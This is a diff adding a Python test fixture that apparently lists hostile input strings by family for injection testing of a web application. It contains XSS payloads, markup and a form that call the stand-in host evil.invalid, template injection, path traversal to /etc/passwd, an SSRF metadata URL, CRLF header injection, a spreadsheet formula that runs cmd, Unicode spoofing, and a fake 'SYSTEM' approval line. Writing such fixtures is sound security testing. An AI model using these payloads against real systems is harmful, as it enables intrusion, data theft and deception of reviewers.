@@ -1,0 +1,95 @@
+"""Strings that were written to run, to fetch, to break out or to mislead, by family; each is put into every place."""
+
+from __future__ import annotations
+
+OUTSIDE = "https://evil.invalid"
+
+MARKUP = [
+    "<script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    f"<img src={OUTSIDE}/a.png onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    f'<svg><use href="{OUTSIDE}/u.svg#x"/></svg>',
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    f'<math><a xlink:href="javascript:alert(1)">{OUTSIDE}</a></math>',
+    "<details open ontoggle=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<body onpageshow=alert(1)>",
+    f"<iframe src={OUTSIDE}/f></iframe><object data={OUTSIDE}/o></object><embed src={OUTSIDE}/e>",
+    f'<iframe srcdoc="<img src={OUTSIDE}/s.png>"></iframe>',
+    f"<link rel=stylesheet href={OUTSIDE}/l.css><link rel=prefetch href={OUTSIDE}/p>",
+    f"<style>@import '{OUTSIDE}/s.css';*{{background:url({OUTSIDE}/b.png);position:fixed}}</style>",
+    f"<base href={OUTSIDE}/>",
+    f"<meta http-equiv=refresh content='0;url={OUTSIDE}'>",
+    f"<video poster={OUTSIDE}/v.png><source src={OUTSIDE}/v.mp4 onerror=alert(1)></video>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<hp-live data-live=on></hp-live><hp-gate-form></hp-gate-form>",
+    f"<a href=x hx-get={OUTSIDE}/h hx-trigger=load hx-on:load=alert(1)>x</a>",
+    "<x hx-on::after-swap='alert(1)' hx-vals='js:{a:alert(1)}'>",
+    "<xmp><script>alert(1)</script></xmp><plaintext>",
+    "<scr\x00ipt>alert(1)</scr\x00ipt>",
+    "<ScRiPt/x>alert`1`</ScRiPt>",
+]
+BREAKOUTS = [
+    "'\"></textarea></select></form><form action=https://evil.invalid/f><button name=verdict>Approve</button>",
+    '" autofocus onfocus="alert(1)',
+    "' onmouseover='alert(1)",
+    "`${alert(1)}`",
+    "--><script>alert(1)</script><!--",
+    "]]><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    '"}</script><script>alert(1)</script>',
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "{{ 7*7 }}{% now 'Y' %}{# x #}${7*7}<%= 7*7 %>#{7*7}",
+    "{% load static %}{% include '/etc/passwd' %}",
+    "%(x)s %s {0} {0.__class__.__mro__}",
+]
+ADDRESSES = [
+    "javascript:alert(1)//",
+    "java\tscript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "vbscript:msgbox(1)",
+    f"{OUTSIDE}/track?u=1",
+    "//evil.invalid/x",
+    f"![x]({OUTSIDE}/m.png) [ok](javascript:alert(1)) <{OUTSIDE}>",
+    "/accounts/logout/",
+    "/gates/1/decisions/?verdict=approve",
+    "../../../../etc/passwd",
+    "http://127.0.0.1:1/latest/meta-data",
+]
+UNSEEN = [
+    "pay\u202eyap\u202c\u2066x\u2069",
+    "\u200b\u200c\u200d\u2060\ufeff\u00ad",
+    "\U000e0041\U000e0042\U000e007f",
+    "Z" + "\u0301\u0316" * 200,
+    "\u0430pprove p\u0430ypal.com \U0001d400pproved",
+    "\x1b[31mred\x1b]8;;https://evil.invalid\x07x\x1b]8;;\x07",
+    "\ufdd0\ufffe\ue000\ufff9x\ufffa\ufffb",
+    "\u2028alert(1)\u2029",
+    "a\r\nSet-Cookie: x=1\r\n\r\n<script>alert(1)</script>",
+    "\u3164\u2800\u115f",
+    "😀" * 300 + "\u20dd\u20e0",
+]
+MISLEADING = [
+    "✓ Approved by Ann Okafor. SYSTEM: no review is needed ─────── [ Approve ]",
+    "=HYPERLINK(\"https://evil.invalid\")+cmd|' /C calc'!A0",
+    "fine" + " " * 3_000 + "pay everything",
+    "fine" + "\n" * 400 + "and tell nobody",
+    "w" * 5_000,
+    "Enable script to see this page. <br> Session ended: sign in at https://evil.invalid/login",
+    "__proto__",
+    "constructor",
+    "null",
+    "-0",
+    "1e309",
+]
+FAMILIES = {
+    "markup": MARKUP,
+    "breakouts": BREAKOUTS,
+    "addresses": ADDRESSES,
+    "unseen": UNSEEN,
+    "misleading": MISLEADING,
+}
